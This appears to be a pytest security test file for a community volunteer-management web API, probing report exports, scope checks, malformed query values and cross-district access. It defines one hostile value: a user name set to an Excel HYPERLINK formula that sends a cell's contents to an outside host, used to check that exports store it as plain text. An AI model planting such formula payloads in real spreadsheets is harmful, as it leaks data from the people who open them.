"""Review probes of the reports (hostile users): a name that is an Excel formula in every export
that carries people's names, scope on the whole requested scope, and bad query values."""
from io import BytesIO

import pytest
from openpyxl import load_workbook

from server.extensions import db
from server.identity.models import User

API = "/api/v1"
FORMULA = '=HYPERLINK("http://x.cn/?"&C3,"查看")'


def _cells(data: bytes):
    book = load_workbook(BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_a_volunteer_named_as_a_formula_is_text_in_the_ledger_export(client, world, login):
    resp = client.patch(f"{API}/me", json={"name": FORMULA}, headers=login("volunteer"))
    assert resp.status_code == 200, resp.get_json()
    db.session.expire_all()
    assert db.session.get(User, world.users["volunteer"].id).name == FORMULA
    resp = client.get(f"{API}/reports/volunteer-ledger.xlsx", headers=login("secretary"))
    assert resp.status_code == 200
    cells = [c for c in _cells(resp.data) if c.value == FORMULA]
    assert cells, "the name is in the export, unchanged"
    assert all(c.data_type == "s" for c in cells), [c.data_type for c in cells]
    assert not [c for c in _cells(resp.data) if c.data_type == "f"]


@pytest.mark.parametrize("path", ["figures", "figures.xlsx", "communities", "volunteer-ledger",
                                  "volunteer-ledger.xlsx"])
@pytest.mark.parametrize("query", [
    {"street_id": "s1"}, {"district_id": "d"}, {"community_id": "b"},
    {"scope": "street", "id": "s1", "community_id": "a"},
])
def test_another_name_for_a_wider_scope_is_refused_or_ignored(client, world, login, path, query):
    """The reports take `scope=&id=` (API.md); `street_id=` and the like are not theirs: refused,
    or ignored so the answer is exactly the caller's own default report, never the wider one."""
    ids = {"s1": world.streets[0].id, "d": world.district.id, "a": world.communities[0].id,
           "b": world.communities[1].id}
    sent = {k: ids.get(v, v) for k, v in query.items()}
    headers = login("secretary")
    resp = client.get(f"{API}/reports/{path}", headers=headers, query_string=sent)
    if "scope" in sent:
        assert resp.status_code == 403, (path, sent, resp.status_code)
        assert resp.get_json()["message"]
        return
    assert resp.status_code in (200, 422), (path, sent, resp.status_code)
    if resp.status_code == 200 and resp.is_json:
        own = client.get(f"{API}/reports/{path}", headers=headers)
        assert resp.get_json() == own.get_json()
        if path == "communities":
            assert [r["community_id"] for r in resp.get_json()] == [ids["a"]]


@pytest.mark.parametrize("bad", ["", "x", "-1", "0", "99999999999", "1.5", "２", "\x00",
                                 "community", "2026-02-30"])
@pytest.mark.parametrize("key", ["scope", "id", "from", "to", "group_by", "page", "per_page"])
def test_no_bad_report_value_is_a_5xx(client, world, login, key, bad):
    headers = login("street_secretary")
    for path in ("figures", "figures.xlsx", "communities", "volunteer-ledger",
                 "volunteer-ledger.xlsx"):
        resp = client.get(f"{API}/reports/{path}", headers=headers, query_string={key: bad})
        assert resp.status_code < 500, (path, key, bad, resp.status_code)


def test_an_admin_of_another_district_cannot_read_our_import(client, world, login):
    from server.identity.models import District
    from tests.api.imports_helpers import scoped_admin
    other = District(name="邻区", city="杭州市")
    db.session.add(other)
    db.session.commit()
    scoped_admin(world, "admin_d2", district_id=other.id)
    scoped_admin(world, "admin_s1", street_id=world.streets[0].id)
    from tests.api.imports_helpers import upload
    resp = upload(client, login("admin"), "units", [{"name": "区税务局党支部"}], dry_run=True)
    assert resp.status_code in (200, 201, 202), resp.get_json()
    run_id = resp.get_json()["id"]
    resp = client.get(f"{API}/admin/imports/{run_id}", headers=login("admin_d2"))
    assert resp.status_code == 404 and resp.get_json()["message"]
    assert client.get(f"{API}/admin/imports/{run_id}", headers=login("admin")).status_code == 200
    # a street admin of our district does not read the district admin's import
    assert client.get(f"{API}/admin/imports/{run_id}", headers=login("admin_s1")).status_code \
        == 404


def test_the_api_assigns_a_home_visit_only_to_a_volunteer_in_the_secretarys_scope(client, world,
                                                                                  login):
    from tests.order_world import make_visit
    visit = make_visit(world)
    db.session.commit()
    resp = client.post(f"{API}/orders/{visit.id}/assign", headers=login("secretary"),
                       json={"volunteer_id": world.volunteers["volunteer_b"].id})
    assert resp.status_code == 404 and resp.get_json()["message"]
    resp = client.post(f"{API}/orders/{visit.id}/assign", headers=login("street_secretary"),
                       json={"volunteer_id": world.volunteers["volunteer_b"].id})
    assert resp.status_code == 200, resp.get_json()  # community B lies in her street
